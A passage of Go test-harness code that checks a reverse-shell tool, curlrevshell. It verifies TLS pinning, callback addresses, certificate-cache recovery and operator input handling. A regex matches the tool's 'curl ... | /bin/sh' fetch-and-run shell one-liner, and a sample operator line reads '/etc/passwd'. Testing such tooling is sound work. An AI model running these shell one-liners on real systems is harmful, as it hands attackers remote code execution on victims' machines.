	tmpl.NotBefore = time.Now().Add(-2 * time.Hour)
	tmpl.NotAfter = time.Now().Add(-time.Hour)
	der, err := x509.CreateCertificate(crand.Reader, &tmpl, &tmpl, signer.Public(), signer)
	if err != nil {
		return err
	}
	var nb bytes.Buffer
	nb.Write(b[:reg.CertHdrEnd])
	nb.Write(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
	nb.Write(b[reg.CertEnd:])
	return os.WriteFile(path, nb.Bytes(), 0o600)
}
