package idn

import (
	"bytes"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ptyx"
)

// Bin is the Runner that starts the real curlrevshell binary on a pty.
type Bin struct {
	Path   string // the binary
	Curl   bool   // also ask the real curl
	HasV6  bool   // ::1 is usable
	p      *ptyx.Proc
	addr   string
	off    int // offset into the terminal output where the current phase starts
	cbPort map[string]string
	fdir   string
}

var (
	reListening = regexp.MustCompile(`Listening on (\S+)`)
	reOneLiner  = regexp.MustCompile(`curl -sk --pinnedpubkey sha256//(\S+) https://(\S+?)(/c \| /bin/sh)?[\r\n]`)
	reHelpEnd   = regexp.MustCompile(`To get a shell:[^\n]*\n[^\n]*\n(?:[^\n]*curl -sk[^\n]*\n)+`)
	reScriptPin = regexp.MustCompile(`--pinnedpubkey "sha256//([^"]+)" https://(\S+)/([io])/`)
)

// pinsIn extracts every one-liner from terminal text.
func pinsIn(text []byte, where string) []Pin {
	var out []Pin
	for _, m := range reOneLiner.FindAllSubmatch(text, -1) {
		w := where + ":file-one-liner"
		if len(m[3]) > 0 {
			w = where + ":shell-one-liner"
		}
		out = append(out, Pin{Where: w, FP: string(m[1]), Addr: string(m[2])})
	}
	return out
}

// Start implements Runner.
func (b *Bin) Start(w *World, cached bool) StartResult {
	b.Stop(w)
	var res StartResult
	res.Before = statFile(w.CertFile)
	made := w.Made()
	rng := w.RNG()
	listen := []string{"127.0.0.1:0", "127.0.0.1"}
	if b.HasV6 {
		listen = append(listen, "[::1]:0", "::1")
	}
	la := listen[rng.Intn(len(listen))]
	args := []string{"-listen-address", la}
	if cached {
		args = append(args, "-tls-certificate-cache", w.CertFile)
	} else {
		args = append(args, "-tls-certificate-cache", "")
	}
	b.cbPort = map[string]string{}
	switch rng.Intn(5) {
	case 1:
		args = append(args, "-callback-address", "cb.example")
	case 2:
		args = append(args, "-callback-address", "cb.example:8443")
		b.cbPort["cb.example:8443"] = "8443"
	case 3:
		args = append(args, "-callback-address", "2001:db8::1", "-callback-address", "[2001:db8::2]:9443")
		b.cbPort["[2001:db8::2]:9443"] = "9443"
	case 4:
		args = append(args, "-callback-address", "one.example", "-callback-address", "two.example:1")
		b.cbPort["two.example:1"] = "1"
	}
	b.fdir = ""
	if rng.Intn(2) == 0 {
		b.fdir = filepath.Join(w.Dir, "files")
		os.MkdirAll(b.fdir, 0o755)
		os.WriteFile(filepath.Join(b.fdir, "f.txt"), []byte("f\n"), 0o644)
		args = append(args, "-serve-files-from", b.fdir)
	}
	p, err := ptyx.Start(b.Path, args, ptyx.Opts{Dir: w.Dir, Env: []string{"HOME=" + w.Dir, "XDG_CACHE_HOME=" + filepath.Join(w.Dir, "xdg")}})
	if err != nil {
		res.Outcome, res.Err = "failed", err
		return res
	}
	b.p = p
	// either it exits (start-up failure) or it prints the callback help
	dl := time.Now().Add(15 * time.Second)
	up := false
	for time.Now().Before(dl) {
		if ex, _ := p.Exited(); ex {
			break
		}
		if reHelpEnd.Match(p.Output()) {
			up = true
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	res.After = statFile(w.CertFile)
	if !up {
		_, st := p.WaitExit(5 * time.Second)
		res.Outcome = "failed"
		res.Err = fmt.Errorf("exit status %d: %s", st, lastLines(p.Output()))
		p.Close()
		b.p = nil
		return res
	}
	time.Sleep(5 * time.Millisecond)
	out := p.Output()
	m := reListening.FindSubmatch(out)
	if m == nil {
		res.Outcome, res.Err = "failed", fmt.Errorf("no listening notice")
		return res
	}
	b.addr = string(m[1])
	leaf, err := Handshake(b.addr)
	if err != nil {
		res.Outcome, res.Err = "unusable", fmt.Errorf("handshake with %s: %w", b.addr, err)
		return res
	}
	res.FP = SPKIHash(leaf)
	if w.Seen(res.FP) {
		res.Outcome = "reused"
	} else {
		res.Outcome = "generated"
	}
	res.Pins = pinsIn(out, "start-up")
	if len(res.Pins) > 0 {
		res.Advertised = res.Pins[0].FP
	}
	b.off = len(out)
	// printed addresses name the bound port unless the user supplied one
	_, bport, _ := net.SplitHostPort(b.addr)
	for _, pin := range res.Pins {
		_, pp, err := net.SplitHostPort(pin.Addr)
		if err != nil {
			res.AddrProblem = fmt.Sprintf("one-liner address %q has no port", pin.Addr)
			continue
		}
		want := bport
		if up, ok := b.cbPort[pin.Addr]; ok {
			want = up
		}
		if pp != want {
			res.AddrProblem = fmt.Sprintf("one-liner names %q, expected port %s (listening on %s)", pin.Addr, want, b.addr)
		}
	}
	for want := range b.cbPort {
		found := false
		for _, pin := range res.Pins {
			if pin.Addr == want {
				found = true
			}
		}
		if !found {
			res.AddrProblem = fmt.Sprintf("no one-liner names the callback address %q the user supplied with its port", want)
		}
	}
	if b.fdir != "" {
		nfile := 0
		for _, pin := range res.Pins {
			if strings.HasSuffix(pin.Where, ":file-one-liner") {
				nfile++
			}
		}
		if nfile == 0 {
			res.AddrProblem = "no file one-liner printed although -serve-files-from is set"
		}
	}
	// owner-only modes
	if cached && !res.Before.exists && res.After.exists {
		if md := res.After.mode.Perm(); md&0o077 != 0 {
			res.ModeProblem = fmt.Sprintf("cache file created with mode %04o", md)
		}
		for _, d := range made {
			if fi, err := os.Stat(d); err == nil && fi.Mode().Perm()&0o077 != 0 {
				res.ModeProblem = fmt.Sprintf("directory %s created with mode %04o", strings.TrimPrefix(d, w.Dir), fi.Mode().Perm())
			}
		}
		w.ForgetMade()
	}
	// the real curl agrees
	if b.Curl && len(res.Pins) > 0 {
		target := "https://" + b.addr + "/c"
		good := exec.Command("curl", "-sk", "--max-time", "10", "--pinnedpubkey", "sha256//"+res.Pins[0].FP, "-o", "/dev/null", target)
		if err := good.Run(); err != nil {
			res.CurlProblem = fmt.Sprintf("curl --pinnedpubkey with the advertised value fails: %v", err)
		}
		other := make([]byte, 32)
		rand.Read(other)
		h := sha256.Sum256(other)
		bad := exec.Command("curl", "-sk", "--max-time", "10", "--pinnedpubkey", "sha256//"+base64.StdEncoding.EncodeToString(h[:]), "-o", "/dev/null", target)
		if err := bad.Run(); err == nil {
			res.CurlProblem = "curl --pinnedpubkey with another value connects"
		}
	}
	return res
}

func lastLines(b []byte) string {
	s := strings.TrimSpace(string(b))
	if len(s) > 300 {
		s = s[len(s)-300:]
	}
	return s
}

// Stop implements Runner.
func (b *Bin) Stop(w *World) string {
	if b.p == nil {
		return ""
	}
	p := b.p
	b.p = nil
	defer p.Close()
	if ex, _ := p.Exited(); ex {
		return ""
	}
	p.Type([]byte{4})
	ex, st := p.WaitExit(10 * time.Second)
	if !ex {
		p.Kill()
		return "the program did not exit on Ctrl+D"
	}
	if st != 0 {
		return fmt.Sprintf("exit status %d on Ctrl+D", st)
	}
	return ""
}

// Advert implements Runner.
func (b *Bin) Advert(w *World, kind string) ([]Pin, string, error) {
	if b.p == nil {
		return nil, "", fmt.Errorf("not running")
	}
	leaf, err := Handshake(b.addr)
	if err != nil {
		return nil, "", err
	}
	fp := SPKIHash(leaf)
	switch kind {
	case "script":
		c, err := tls.DialWithDialer(&net.Dialer{Timeout: 3 * time.Second}, "tcp", b.addr, &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			return nil, fp, err
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprintf(c, "GET /c HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", b.addr)
		var buf bytes.Buffer
		buf.ReadFrom(c)
		var pins []Pin
		for _, m := range reScriptPin.FindAllSubmatch(buf.Bytes(), -1) {
			pins = append(pins, Pin{Where: "script:/" + string(m[3]), FP: string(m[1]), Addr: string(m[2])})
		}
		if len(pins) != 2 {
			return pins, fp, nil
		}
		return pins, fp, nil
	case "reprint":
		// a shell attaches and dies; the help is printed again
		off := len(b.p.Output())
		id := fmt.Sprintf("v%d", w.RNG().Int63())
		ci, err := tls.DialWithDialer(&net.Dialer{Timeout: 3 * time.Second}, "tcp", b.addr, &tls.Config{InsecureSkipVerify: true})
		if err != nil {
			return nil, fp, err
		}
		fmt.Fprintf(ci, "GET /i/%s HTTP/1.1\r\nHost: x\r\n\r\n", id)
		if _, ok := b.p.WaitFor(regexp.MustCompile(`Input connected`), off, 5*time.Second); !ok {
			ci.Close()
			return nil, fp, fmt.Errorf("input stream not attached")
		}
		ci.Close()
		if _, ok := b.p.WaitFor(regexp.MustCompile(`Shell is gone[^\n]*\n(?s:.*?)To get a shell:[^\n]*\n[^\n]*\n(?:[^\n]*curl -sk[^\n]*\n)+`), off, 8*time.Second); !ok {
			return nil, fp, nil // nothing re-printed: reported by the caller as nothing advertised
		}
		time.Sleep(3 * time.Millisecond)
		out := b.p.Output()
		i := bytes.Index(out[off:], []byte("Shell is gone"))
		return pinsIn(out[off+i:], "re-printed"), fp, nil
	}
	return nil, fp, fmt.Errorf("unknown advert %q", kind)
}
