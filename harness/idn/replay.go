package idn

import (
	"encoding/json"
	"fmt"
	"os"

	"github.com/magisterquis/curlrevshell/verifharness/graph"
)

// Force pins the concretisation of Crash / Damage steps (for exhaustive sweeps).
type Force struct {
	Cut       int // prefix length, -1 = choose by seed within the class
	DamageOff int // byte offset, -1 = choose by seed within the class
	DamageTo  byte
}

// NoForce leaves every choice to the seed.
var NoForce = Force{Cut: -1, DamageOff: -1}

// Result is what a replay observed.
type Result struct {
	Divs   []Div
	Steps  int
	Labels []string
	Starts int
}

func label(a Act) string {
	switch a.N {
	case "Start":
		return fmt.Sprintf("Start(cache=%v)", a.C)
	case "Crash", "Damage":
		return fmt.Sprintf("%s(%s)", a.N, a.Cl)
	}
	return a.N
}

// Replay steps the actions of a walk through real files and listeners,
// choosing at every Start the specification edge that matches what the real
// code did.
func Replay(g *graph.G, walk []int, scratch string, depth int, seed int64, f Force, runner Runner) (*Result, error) {
	w, err := NewWorld(scratch, depth, seed)
	if err != nil {
		return nil, err
	}
	defer w.Close()
	defer runner.Stop(w)
	res := &Result{}
	curFP := ""
	cur := g.Init
	div := func(step int, prop, aspect, format string, a ...any) {
		res.Divs = append(res.Divs, Div{Prop: prop, Aspect: aspect, Desc: fmt.Sprintf(format, a...), Step: step})
	}
	for i, ei := range walk {
		var act Act
		if err := json.Unmarshal(g.Edges[ei].Act, &act); err != nil {
			return res, err
		}
		from, err := ParseState(g.State[cur])
		if err != nil {
			return res, err
		}
		// candidate edges from the current state with the same action (any result)
		var cands []int
		for _, oi := range g.Out[cur] {
			var a2 Act
			json.Unmarshal(g.Edges[oi].Act, &a2)
			if a2.N == act.N && a2.C == act.C && a2.Cl == act.Cl {
				cands = append(cands, oi)
			}
		}
		if len(cands) == 0 {
			break // the real run took another (allowed) branch; the rest of the walk does not apply
		}
		res.Labels = append(res.Labels, label(act))
		res.Steps++
		switch act.N {
		case "Start":
			res.Starts++
			sr := runner.Start(w, act.C)
			next := -1
			for _, oi := range cands {
				var a2 Act
				json.Unmarshal(g.Edges[oi].Act, &a2)
				if a2.R == sr.Outcome {
					next = oi
				}
			}
			pinsAgree := func() {
				if sr.Outcome == "failed" || sr.Outcome == "unusable" {
					return
				}
				if len(sr.Pins) == 0 {
					div(i, "C05", "nothing-advertised", "the run shows no fingerprint at start-up")
				}
				for _, p := range sr.Pins {
					if p.FP != sr.FP {
						div(i, "C05", "advertised-fingerprint:"+p.Where, "%s shows pin %q, but the certificate presented in handshakes has SPKI hash %q", p.Where, p.FP, sr.FP)
					}
				}
			}
			if next < 0 {
				pinsAgree() // whatever the run was allowed to do, what it advertises must be what it serves
				switch {
				case sr.Outcome == "unusable":
					div(i, "C08", "unusable-key-served", "with a %s cache file (%s) the run started and advertises a fingerprint, but no handshake with it succeeds: %v", from.Fst, from.Fcls, sr.Err)
				case sr.Outcome == "generated" && (from.Fst == "torn" || from.Fst == "damaged"):
					div(i, "C08", "silently-different-key", "a %s cache file (%s) led to a newly generated key being served instead of an error or the original key", from.Fst, from.Fcls)
				case sr.Outcome == "generated" && from.Fst == "intact":
					div(i, "C08", "stable-key", "an intact cache file was ignored and a new key generated")
				case sr.Outcome == "failed" && from.Fst == "absent":
					div(i, "C08", "missing-regenerates", "a missing cache file was not regenerated: %v", sr.Err)
				case sr.Outcome == "failed" && from.Fst == "intact":
					div(i, "C08", "stable-key", "an intact cache file was refused: %v", sr.Err)
				case sr.Outcome == "failed":
					div(i, "C08", "start", "run failed: %v", sr.Err)
				default:
					div(i, "C08", "start", "run outcome %q is not a behaviour of the specification in file state %s", sr.Outcome, from.Fst)
				}
				return res, nil
			}
			to, _ := ParseState(g.Edges[next].ToState)
			switch sr.Outcome {
			case "generated":
				w.keys[to.Served] = sr.FP
			case "reused":
				if want, ok := w.keys[from.Fkey]; act.C && ok && want != sr.FP {
					div(i, "C08", "stable-key", "the run serves a key that is not the one in the cache file")
				}
				if !act.C {
					div(i, "C08", "uncached-fresh", "a run without cache served a key seen before")
				}
			}
			if (from.Fst != "absent" || !act.C) && !sr.Before.same(sr.After) {
				div(i, "C08", "cache-rewritten", "the run changed an existing cache file (state %s, cache configured %v)", from.Fst, act.C)
			}
			if sr.Outcome == "generated" && act.C {
				if !sr.After.exists {
					div(i, "C08", "missing-regenerates", "no cache file was written")
				}
				if sr.ModeProblem != "" {
					div(i, "C08", "owner-only", "%s", sr.ModeProblem)
				}
			}
			if sr.Outcome != "failed" {
				curFP = sr.FP
				pinsAgree()
				if sr.AddrProblem != "" {
					div(i, "C05", "advertised-address", "%s", sr.AddrProblem)
				}
				if sr.CurlProblem != "" {
					div(i, "C05", "curl-pinning", "%s", sr.CurlProblem)
				}
			}
			cur = g.Edges[next].To
		case "Stop":
			if p := runner.Stop(w); p != "" {
				div(i, "C20", "stop", "%s", p)
			}
			cur = g.Edges[cands[0]].To
		case "Advert":
			pins, fp, err := runner.Advert(w, act.Cl)
			if err != nil {
				return res, err
			}
			if fp != curFP {
				div(i, "C08", "stable-key", "the key served changed during a run")
			}
			if len(pins) == 0 {
				div(i, "C05", "nothing-advertised", "%s shows no fingerprint", act.Cl)
			}
			for _, p := range pins {
				if p.FP != fp {
					div(i, "C05", "advertised-fingerprint:"+p.Where, "%s shows pin %q, but the certificate presented in handshakes has SPKI hash %q", p.Where, p.FP, fp)
				}
			}
			cur = g.Edges[cands[0]].To
		case "Crash":
			b, fp, err := w.FreshFile()
			if err != nil {
				return res, err
			}
			reg, err := Layout(b)
			if err != nil {
				return res, err
			}
			n := f.Cut
			if n < 0 {
				lo, hi := reg.CutRange(act.Cl)
				n = lo + w.rng.Intn(hi-lo+1)
			} else {
				// a pinned prefix length: the class is the one it has in this very file
				if n > len(b)-1 {
					n = len(b) - 1
				}
				cl := reg.CutClass(n)
				for _, oi := range g.Out[cur] {
					var a2 Act
					json.Unmarshal(g.Edges[oi].Act, &a2)
					if a2.N == "Crash" && a2.Cl == cl {
						cands = []int{oi}
					}
				}
			}
			if err := w.Place(b[:n]); err != nil {
				return res, err
			}
			to, _ := ParseState(g.Edges[cands[0]].ToState)
			w.keys[to.Fkey] = fp
			w.seen[fp] = true
			res.Labels[len(res.Labels)-1] += fmt.Sprintf("@%d/%d", n, len(b))
			cur = g.Edges[cands[0]].To
		case "Damage":
			b, err := os.ReadFile(w.CertFile)
			if err != nil {
				return res, err
			}
			reg, err := Layout(b)
			if err != nil {
				return res, err
			}
			off, to := f.DamageOff, f.DamageTo
			if off < 0 {
				lo, hi := reg.DamageRange(b, act.Cl)
				off = lo + w.rng.Intn(hi-lo)
				alts := []byte{'A', 'B', '!', '\n', ' ', 'z', '-', 0}
				to = alts[w.rng.Intn(len(alts))]
			}
			if b[off] == to {
				to ^= 1
			}
			b[off] = to
			if err := os.WriteFile(w.CertFile, b, 0o600); err != nil {
				return res, err
			}
			res.Labels[len(res.Labels)-1] += fmt.Sprintf("@%d:=%q", off, to)
			cur = g.Edges[cands[0]].To
		case "Expire":
			// the cached certificate's validity ends: same key, certificate re-issued with NotAfter in the past
			if err := ExpireCache(w.CertFile); err != nil {
				return res, err
			}
			cur = g.Edges[cands[0]].To
		case "Delete":
			os.Remove(w.CertFile)
			cur = g.Edges[cands[0]].To
		case "Rotate":
			// another instance regenerates the cache while this one keeps running
			b, fp, err := w.FreshFile()
			if err != nil {
				return res, err
			}
			os.Remove(w.CertFile)
			if err := w.Place(b); err != nil {
				return res, err
			}
			to, _ := ParseState(g.Edges[cands[0]].ToState)
			w.keys[to.Fkey] = fp
			w.seen[fp] = true
			cur = g.Edges[cands[0]].To
			// whatever the walk does next: the running listener must still serve and advertise the
			// identity it started with
			if pins, sfp, err := runner.Advert(w, "script"); err == nil {
				if sfp != curFP {
					div(i, "C08", "stable-key", "the key served changed during a run (the cache file was replaced under the running listener)")
				}
				for _, p := range pins {
					if p.FP != sfp {
						div(i, "C05", "advertised-fingerprint:"+p.Where, "%s shows pin %q, but the certificate presented in handshakes has SPKI hash %q", p.Where, p.FP, sfp)
					}
				}
			}
		}
		if len(res.Divs) > 0 {
			return res, nil
		}
	}
	return res, nil
}
