// Package srv runs a real internal/hsrv.Server in-process (real TLS listener,
// real broker, harness-owned operator channels and logger) and talks to it
// with hand-written requests over raw TLS connections.
package srv

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"log/slog"
	"net"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

// Opts configures the server.
type Opts struct {
	Addr     string // default 127.0.0.1:0
	Fdir     string
	Tmplf    string
	CertFile string
	CbAddrs  []string
	IPv6     bool
	OneShell bool
	OchCap   int // default 4096
}

// Line is one operator-channel line with its arrival order.
type Line struct {
	Seq int
	CL  opshell.CLine
}

// S is a running server.
type S struct {
	Srv    *hsrv.Server
	B      *iobroker.Broker
	Ich    chan string
	Och    chan opshell.CLine
	Addr   string
	cancel context.CancelFunc
	Done   chan error

	mu    sync.Mutex
	lines []Line
	Log   *LogCap
	stop  chan struct{}
	evCh  chan iobroker.Event
	evMu  sync.Mutex
	Evs   []iobroker.Event
}

// LogCap captures slog records.
type LogCap struct {
	mu    sync.Mutex
	Recs  []map[string]string
	attrs []slog.Attr
	group string
	root  *LogCap
}

// Enabled implements slog.Handler.
func (l *LogCap) Enabled(context.Context, slog.Level) bool { return true }

// Handle implements slog.Handler.
func (l *LogCap) Handle(_ context.Context, r slog.Record) error {
	m := map[string]string{"msg": r.Message, "level": r.Level.String()}
	var add func(prefix string, a slog.Attr)
	add = func(prefix string, a slog.Attr) {
		if a.Value.Kind() == slog.KindGroup {
			for _, g := range a.Value.Group() {
				add(prefix+a.Key+".", g)
			}
			return
		}
		m[prefix+a.Key] = a.Value.String()
	}
	for _, a := range l.attrs {
		add("", a)
	}
	r.Attrs(func(a slog.Attr) bool { add("", a); return true })
	root := l.root
	if root == nil {
		root = l
	}
	root.mu.Lock()
	root.Recs = append(root.Recs, m)
	root.mu.Unlock()
	return nil
}

// WithAttrs implements slog.Handler.
func (l *LogCap) WithAttrs(as []slog.Attr) slog.Handler {
	root := l.root
	if root == nil {
		root = l
	}
	return &LogCap{attrs: append(append([]slog.Attr(nil), l.attrs...), as...), root: root}
}

// WithGroup implements slog.Handler.
func (l *LogCap) WithGroup(string) slog.Handler { return l }

// Records returns a copy of the captured records.
func (l *LogCap) Records() []map[string]string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]map[string]string(nil), l.Recs...)
}

// Start starts a server.
func Start(o Opts) (*S, error) {
	if o.Addr == "" {
		o.Addr = "127.0.0.1:0"
	}
	if o.OchCap == 0 {
		o.OchCap = 4096
	}
	s := &S{Ich: make(chan string, 1024), Och: make(chan opshell.CLine, o.OchCap), Done: make(chan error, 1), Log: &LogCap{}, stop: make(chan struct{}),
		evCh: make(chan iobroker.Event, iobroker.EVChanLen)}
	b, err := iobroker.New(s.Ich, s.Och)
	if err != nil {
		return nil, err
	}
	s.B = b
	b.AddEventListener(s.evCh)
	go func() { // never let the broker's dispatcher block on this listener, however long the campaign
		for {
			select {
			case e := <-s.evCh:
				s.evMu.Lock()
				s.Evs = append(s.Evs, e)
				s.evMu.Unlock()
			case <-s.stop:
				return
			}
		}
	}()
	sl := slog.New(s.Log)
	sv, err := hsrv.New(sl, o.Addr, o.Fdir, o.Tmplf, s.Ich, s.Och, b, o.CertFile, o.CbAddrs, o.IPv6, o.OneShell)
	if err != nil {
		return nil, err
	}
	s.Srv = sv
	ctx, cancel := context.WithCancel(context.Background())
	s.cancel = cancel
	// the operator's terminal: takes every line
	go func() {
		n := 0
		for {
			select {
			case cl := <-s.Och:
				n++
				s.mu.Lock()
				s.lines = append(s.lines, Line{Seq: n, CL: cl})
				s.mu.Unlock()
			case <-s.stop:
				return
			}
		}
	}()
	var wg sync.WaitGroup
	wg.Add(2)
	var derr error
	go func() { defer wg.Done(); b.Do(ctx) }()
	go func() { defer wg.Done(); derr = sv.Do(ctx) }()
	go func() { wg.Wait(); s.Done <- derr }()
	// wait for the listening notice, which carries the address
	dl := time.Now().Add(5 * time.Second)
	for time.Now().Before(dl) {
		for _, l := range s.Lines() {
			if strings.HasPrefix(l.CL.Line, "Listening on ") {
				s.Addr = strings.TrimPrefix(l.CL.Line, "Listening on ")
			}
		}
		if s.Addr != "" {
			return s, nil
		}
		time.Sleep(time.Millisecond)
	}
	s.Stop()
	return nil, fmt.Errorf("server did not announce its address")
}

// Lines returns the operator lines so far.
func (s *S) Lines() []Line {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Line(nil), s.lines...)
}

// NLines returns how many operator lines there are.
func (s *S) NLines() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.lines)
}

// WaitLines waits until at least n lines exist.
func (s *S) WaitLines(n int, d time.Duration) bool {
	dl := time.Now().Add(d)
	for s.NLines() < n {
		if time.Now().After(dl) {
			return false
		}
		time.Sleep(200 * time.Microsecond)
	}
	return true
}

// WaitLine waits for a line (from index from) satisfying f.
func (s *S) WaitLine(from int, d time.Duration, f func(opshell.CLine) bool) (int, bool) {
	dl := time.Now().Add(d)
	for {
		ls := s.Lines()
		for i := from; i < len(ls); i++ {
			if f(ls[i].CL) {
				return i, true
			}
		}
		if time.Now().After(dl) {
			return -1, false
		}
		time.Sleep(300 * time.Microsecond)
	}
}

// Events returns the broker events delivered so far.
func (s *S) Events() []iobroker.Event {
	s.evMu.Lock()
	defer s.evMu.Unlock()
	return append([]iobroker.Event(nil), s.Evs...)
}

// Stop shuts the server down.
func (s *S) Stop() error {
	s.cancel()
	var err error
	select {
	case err = <-s.Done:
	case <-time.After(10 * time.Second):
		err = fmt.Errorf("server did not stop")
	}
	close(s.stop)
	return err
}

// Resp is a parsed HTTP response.
type Resp struct {
	Status  int
	Proto   string
	Header  map[string]string
	Body    []byte
	Raw     []byte
	Leaf    *x509.Certificate
	ConnErr error
}

// Raw sends raw request bytes over a fresh TLS connection and reads the
// response until the server closes it or d elapses.
func Raw(addr, sni string, req []byte, d time.Duration) Resp {
	var r Resp
	dialer := &net.Dialer{Timeout: 3 * time.Second}
	c, err := tls.DialWithDialer(dialer, "tcp", addr, &tls.Config{InsecureSkipVerify: true, ServerName: sni})
	if err != nil {
		r.ConnErr = err
		return r
	}
	defer c.Close()
	if pcs := c.ConnectionState().PeerCertificates; len(pcs) > 0 {
		r.Leaf = pcs[0]
	}
	c.SetDeadline(time.Now().Add(d))
	if _, err := c.Write(req); err != nil {
		r.ConnErr = err
		return r
	}
	br := bufio.NewReader(c)
	var raw bytes.Buffer
	line, err := br.ReadString('\n')
	raw.WriteString(line)
	if err != nil {
		r.ConnErr = err
		r.Raw = raw.Bytes()
		return r
	}
	parts := strings.SplitN(strings.TrimSpace(line), " ", 3)
	if len(parts) >= 2 {
		r.Proto = parts[0]
		r.Status, _ = strconv.Atoi(parts[1])
	}
	r.Header = map[string]string{}
	for {
		h, err := br.ReadString('\n')
		raw.WriteString(h)
		if err != nil || strings.TrimSpace(h) == "" {
			break
		}
		if k, v, ok := strings.Cut(h, ":"); ok {
			r.Header[strings.ToLower(strings.TrimSpace(k))] = strings.TrimSpace(v)
		}
	}
	var body []byte
	if cl, ok := r.Header["content-length"]; ok {
		n, _ := strconv.Atoi(cl)
		body = make([]byte, n)
		m, _ := io.ReadFull(br, body)
		body = body[:m]
	} else if strings.Contains(strings.ToLower(r.Header["transfer-encoding"]), "chunked") {
		for {
			sz, err := br.ReadString('\n')
			if err != nil {
				break
			}
			n, err := strconv.ParseInt(strings.TrimSpace(sz), 16, 64)
			if err != nil || n == 0 {
				break
			}
			chunk := make([]byte, n)
			if _, err := io.ReadFull(br, chunk); err != nil {
				break
			}
			body = append(body, chunk...)
			br.ReadString('\n')
		}
	} else {
		body, _ = io.ReadAll(br)
	}
	r.Body = body
	raw.Write(body)
	r.Raw = raw.Bytes()
	return r
}

// Get sends a plain GET with Connection: close.
func Get(addr, target, host string, extra ...string) Resp {
	var b strings.Builder
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n", target, host)
	for _, h := range extra {
		b.WriteString(h + "\r\n")
	}
	b.WriteString("\r\n")
	return Raw(addr, "", []byte(b.String()), 5*time.Second)
}
