package main

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/brk"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/ptyx"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

// The operator's side of C02 (OpInput.tla): lines typed on the pty of the real lib/opshell and
// Ctrl+I payloads, observed as entries of the input channel.  Walks of the specification give
// the key presses; what the channel received is recorded and validated by TLC (OpInputTrace).

type oiAct struct {
	N string `json:"n"`
	I int    `json:"i"`
	J int    `json:"j"`
}

type oiNote struct {
	kind string // "G" or "I"
	n    int
	b    []byte
}

func oiLine(i int, rng *rand.Rand) string {
	switch rng.Intn(7) {
	case 0:
		return ""
	case 1:
		return fmt.Sprintf("echo 'line %d' \"d\" \\ back`tick` $HOME {}", i)
	case 2:
		return fmt.Sprintf("  leading and trailing blanks %d  ", i)
	case 3:
		return fmt.Sprintf("ünï-cödé %d ✓ 日本", i)
	case 4:
		return fmt.Sprintf("long-%d-", i) + strings.Repeat("x", 500+rng.Intn(1400))
	case 5:
		return fmt.Sprintf("%d", i)
	}
	return fmt.Sprintf("cat /etc/passwd | head -%d", i)
}

// opInputWalk presses the keys of one behaviour of OpInput.tla and records what was entered.
func opInputWalk(helper string, g *graph.G, walk []int, seed int64, settle bool) (trace []brk.TraceEv, labels []string, infra error) {
	rng := rand.New(rand.NewSource(seed))
	crd, cwr, err := os.Pipe()
	if err != nil {
		return nil, nil, err
	}
	defer cwr.Close()
	nrd, nwr, err := os.Pipe()
	if err != nil {
		return nil, nil, err
	}
	p, err := ptyx.Start(helper, nil, ptyx.Opts{ExtraFiles: []*os.File{crd, nwr}, Env: []string{"OPSH_ICH=1"}})
	crd.Close()
	nwr.Close()
	if err != nil {
		nrd.Close()
		return nil, nil, err
	}
	defer p.Close()
	notes := make(chan oiNote, 1024)
	go func() {
		defer nrd.Close()
		sc := bufio.NewScanner(nrd)
		sc.Buffer(make([]byte, 1<<20), 1<<22)
		for sc.Scan() {
			f := strings.Fields(sc.Text())
			switch {
			case len(f) == 3 && f[0] == "G":
				n, _ := strconv.Atoi(f[1])
				b, _ := base64.StdEncoding.DecodeString(f[2])
				notes <- oiNote{"G", n, b}
			case len(f) >= 1 && f[0] == "I":
				var b []byte
				if len(f) == 2 {
					b, _ = base64.StdEncoding.DecodeString(f[1])
				}
				notes <- oiNote{"I", 0, b}
			}
		}
		close(notes)
	}()
	dl := time.Now().Add(10 * time.Second)
	for !bytes.Contains(p.Output(), []byte("<READY>")) {
		if time.Now().After(dl) {
			return nil, nil, fmt.Errorf("helper did not come up: %q %q", p.Output(), p.Stderr())
		}
		time.Sleep(time.Millisecond)
	}
	const wait = 5 * time.Second
	pending := map[int][]byte{} // insert j -> payload not yet seen on the channel
	var pretend [][]byte        // payloads generated for Ctrl+J: must never be entered
	sent := map[int]bool{}
	ins := 0
	// entry classifies one channel entry; the typed line being waited for, if any, is cur
	entry := func(b []byte, cur *string, curI int) (lineDone bool) {
		for j, pl := range pending {
			if bytes.Equal(pl, b) {
				delete(pending, j)
				sent[j] = true
				trace = append(trace, brk.TraceEv{"e": "InsSend", "j": j, "intact": true})
				return false
			}
		}
		if cur != nil {
			trace = append(trace, brk.TraceEv{"e": "TypeLine", "i": curI, "intact": string(b) == *cur})
			return true
		}
		// nothing was typed and it is no whole pending payload: a piece, a duplicate or a pretended insert
		what := "an entry nobody made"
		for _, pl := range pretend {
			if bytes.Equal(pl, b) {
				what = "the payload of a pretended insert (Ctrl+J)"
			}
		}
		_ = what
		trace = append(trace, brk.TraceEv{"e": "InsSend", "j": 99, "intact": false})
		return false
	}
	// next waits for a note; G notes are returned to the caller that expects them
	var gq []oiNote
